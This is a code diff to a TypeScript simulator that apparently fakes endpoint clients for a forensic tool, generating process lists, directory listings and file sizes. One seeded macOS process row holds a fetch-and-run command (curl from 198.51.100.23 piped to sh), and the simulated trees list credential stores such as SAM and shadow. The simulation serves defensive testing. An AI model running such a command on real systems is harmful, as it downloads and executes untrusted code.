@@ -115,16 +115,47 @@ const MAC_PROCS = [
   ['osascript', 'osascript -e do shell script "curl -s http://198.51.100.23/a | sh"', 'alice'],
 ];
 
-const procs: Gen = (c, rng, _env, _def, now) => {
+/**
+ * The program a command line starts: the quoted path, else the command line up to the process's own
+ * name (a path with spaces stays whole: /Applications/Google Chrome.app/…/Google Chrome), else its
+ * first word.
+ */
+export function exeOf(name: string, cmd: string): string {
+  const quoted = /^"([^"]+)"/.exec(cmd);
+  if (quoted) return quoted[1] ?? '';
+  const lower = cmd.toLowerCase();
+  const want = name.toLowerCase();
+  // The occurrence that is a whole path component: after a separator (or first), before a space or the end.
+  for (let at = lower.indexOf(want); at >= 0; at = lower.indexOf(want, at + 1)) {
+    const before = at === 0 ? '' : lower[at - 1];
+    const end = at + want.length + (/^\.exe(?=\s|$)/.exec(lower.slice(at + want.length))?.[0].length ?? 0);
+    const after = lower[end];
+    if ((before === '' || before === '/' || before === '\\') && (after === undefined || after === ' '))
+      return cmd.slice(0, end);
+  }
+  return cmd.split(' ')[0] ?? '';
+}
+
+/** A regex parameter the artifact declares (any spelling of its name), or null when it has none. */
+function declaredRegex(def: ArtifactDefinition, env: Record<string, string>, name: string): RegExp | null {
+  const p = def.parameters.find((x) => x.name.toLowerCase() === name.toLowerCase());
+  return p ? paramRegex(paramText(def, env, p.name, '.')) : null;
+}
+
+const procs: Gen = (c, rng, env, def, now) => {
   const table = c.os === 'windows' ? WIN_PROCS : c.os === 'linux' ? LINUX_PROCS : MAC_PROCS;
+  // As the real artifacts: ProcessRegex on the name, PidRegex on the pid (an invalid one matches nothing).
+  const nameRe = declaredRegex(def, env, 'ProcessRegex');
+  const pidRe = declaredRegex(def, env, 'PidRegex');
+  const declares = (n: string) => def.parameters.some((x) => x.name.toLowerCase() === n.toLowerCase());
   let pid = c.os === 'windows' ? 4 : 1;
-  return table.map(([name, cmd, user], i) => {
+  const rows = table.map(([name, cmd, user], i) => {
     const row: Record<string, unknown> = {
       Pid: pid,
       Ppid: i === 0 ? 0 : c.os === 'windows' ? 4 : 1,
       Name: name,
       Username: user,
-      Exe: (cmd ?? '').replace(/^"([^"]+)".*$/, '$1').split(' ')[0] ?? '',
+      Exe: exeOf(name ?? '', cmd ?? ''),
       CommandLine: cmd,
       CreateTime: iso(now - rng.int(60, 900_000) * 1000),
       MemoryUsage: rng.int(2_000_000, 400_000_000),
@@ -133,6 +164,11 @@ const procs: Gen = (c, rng, _env, _def, now) => {
     pid += rng.int(4, 900) * (c.os === 'windows' ? 4 : 1);
     return row;
   });
+  return rows.filter(
+    (r) =>
+      (!declares('ProcessRegex') || (nameRe?.test(String(r.Name)) ?? false)) &&
+      (!declares('PidRegex') || (pidRe?.test(String(r.Pid)) ?? false)),
+  );
 };
 
 const netstat: Gen = (c, rng) => {
@@ -1015,6 +1051,49 @@ export function clientPathOf(c: ClientRecord, components: string[]): string {
   return c.os === 'windows' ? components.join('\\') : '/' + components.join('/');
 }
 
+/** Known folders of each OS: their own children, so a browse looks like a machine. */
+const KNOWN_DIRS: Record<string, Record<string, string[]>> = {
+  windows: {
+    '': ['C:'],
+    'C:': ['Program Files', 'ProgramData', 'Users', 'Windows', 'pagefile.sys', 'notes.txt'],
+    'C:\\Program Files': ['Common Files', 'Google', 'Microsoft Office', 'Velociraptor', 'Windows Defender'],
+    'C:\\Users': ['Administrator', 'Public', 'alice', 'bob'],
+    'C:\\Windows': ['System32', 'Temp', 'Tasks', 'explorer.exe', 'win.ini', 'notepad.exe'],
+    'C:\\Windows\\System32': ['config', 'drivers', 'winevt', 'cmd.exe', 'kernel32.dll', 'svchost.exe'],
+    'C:\\Windows\\System32\\config': ['SAM', 'SECURITY', 'SOFTWARE', 'SYSTEM'],
+  },
+  linux: {
+    '/home': ['deploy', 'alice'],
+    '/var': ['log', 'lib', 'tmp'],
+    '/var/log': ['apt', 'auth.log', 'kern.log', 'syslog', 'wtmp'],
+    '/tmp': ['.X11-unix', 'systemd-private-1f2e', 'update.sh'],
+  },
+  darwin: {
+    '': ['Applications', 'Library', 'System', 'Users', 'private', 'notes.txt'],
+    '/Applications': ['Google Chrome.app', 'Safari.app', 'Slack.app', 'Utilities'],
+    '/Users': ['Shared', 'alice'],
+    '/Library': ['LaunchAgents', 'LaunchDaemons', 'Logs', 'Preferences'],
+  },
+};
+
+const OTHER_DIRS = ['cache', 'config', 'data', 'logs', 'backup', 'Local Settings', 'old'];
+const OTHER_FILES = ['readme.txt', 'settings.ini', 'report 2026.docx', 'install.log', 'data.db', 'notes.txt'];
+
+/**
+ * Files the client cannot read whole (locked by the OS, sparse): the listing gives their real size,
+ * a download gets only the readable start, as an upload of a locked or sparse file does.
+ */
+const PARTIAL_FILES: Record<string, number> = {
+  'pagefile.sys': 8_589_934_592,
+  SAM: 65_536,
+  SYSTEM: 18_874_368,
+};
+
+/** A file's size as a listing reports it: the bytes a download gets, or the true size of a partial one. */
+function listedSize(c: ClientRecord, path: string, name: string): number {
+  return PARTIAL_FILES[name] ?? fileContent(c, path).length;
+}
+
 /** A simulated directory entry: a file, a directory, or a symlink (with its target). */
 interface DirEntry {
   name: string;
@@ -1022,47 +1101,52 @@ interface DirEntry {
   link?: string;
 }
 
-/** What every simulated directory holds (the drive list at the root of a Windows client). */
+/** Files without an extension in the known folders (everything else without one is a folder). */
+const BARE_FILES = new Set([
+  'hosts',
+  'passwd',
+  'shadow',
+  'sudoers',
+  'wtmp',
+  'SAM',
+  'SECURITY',
+  'SOFTWARE',
+  'SYSTEM',
+]);
+
+function entryOf(name: string): DirEntry {
+  const dir =
+    name.endsWith(':') || name.endsWith('.app') || (!BARE_FILES.has(name) && !/\.[a-z0-9]+$/i.test(name));
+  return { name, kind: dir ? 'dir' : 'file' };
+}
+
+/**
+ * What a simulated directory holds: the Linux root and /etc as recorded from real clients (with
+ * their symlinks), a known folder its own children, any other folder a few sub-folders and files
+ * picked from its path (the same every time, different between folders).
+ */
 function directoryEntries(c: ClientRecord, components: string[]): DirEntry[] {
-  const file = (name: string): DirEntry => ({ name, kind: 'file' });
-  const dir = (name: string): DirEntry => ({ name, kind: 'dir' });
-  if (c.os === 'windows')
-    return components.length === 0
-      ? [dir('C:')]
-      : [
-          dir('Program Files'),
-          dir('ProgramData'),
-          dir('Users'),
-          dir('Windows'),
-          file('pagefile.sys'),
-          file('notes.txt'),
-        ];
-  if (c.os === 'darwin')
+  const key = components.length === 0 ? '' : clientPathOf(c, components);
+  if (c.os === 'linux' && key === '')
     return [
-      dir('Applications'),
-      dir('Library'),
-      dir('System'),
-      dir('Users'),
-      dir('private'),
-      file('notes.txt'),
+      { name: 'bin', kind: 'link', link: 'usr/bin' },
+      ...['etc', 'home', 'tmp', 'usr', 'var', 'notes.txt'].map(entryOf),
     ];
-  return components.length === 0
-    ? [
-        { name: 'bin', kind: 'link', link: 'usr/bin' },
-        dir('etc'),
-        dir('home'),
-        dir('tmp'),
-        dir('usr'),
-        dir('var'),
-        file('notes.txt'),
-      ]
-    : [
-        dir('ssh'),
-        file('hosts'),
-        file('passwd'),
-        { name: 'os-release', kind: 'link', link: '../usr/lib/os-release' },
-        file('notes.txt'),
-      ];
+  if (c.os === 'linux' && key === '/etc')
+    return [
+      ...['ssh', 'hosts', 'passwd'].map(entryOf),
+      { name: 'os-release', kind: 'link', link: '../usr/lib/os-release' },
+      entryOf('notes.txt'),
+    ];
+  const own = (KNOWN_DIRS[c.os] ?? KNOWN_DIRS.linux!)[key];
+  if (own) return own.map(entryOf);
+  const rng = new Rng(`${c.os}/${key.toLowerCase()}`);
+  const pick = (pool: string[], n: number) => [...pool].sort(() => rng.next() - 0.5).slice(0, n);
+  return (
+    components.length >= 6
+      ? pick(OTHER_FILES, rng.int(1, 3))
+      : [...pick(OTHER_DIRS, rng.int(1, 3)), ...pick(OTHER_FILES, rng.int(2, 4))]
+  ).map(entryOf);
 }
 
 /** Rows a listing at most gives (a deep recursion over the stand-in tree would never end). */
@@ -1101,7 +1185,7 @@ function vfsListing(
         Name: entry.name,
         Size:
           entry.kind === 'file'
-            ? fileContent(c, path).length
+            ? listedSize(c, path, entry.name)
             : entry.kind === 'link'
               ? (entry.link?.length ?? 0)
               : 4096,
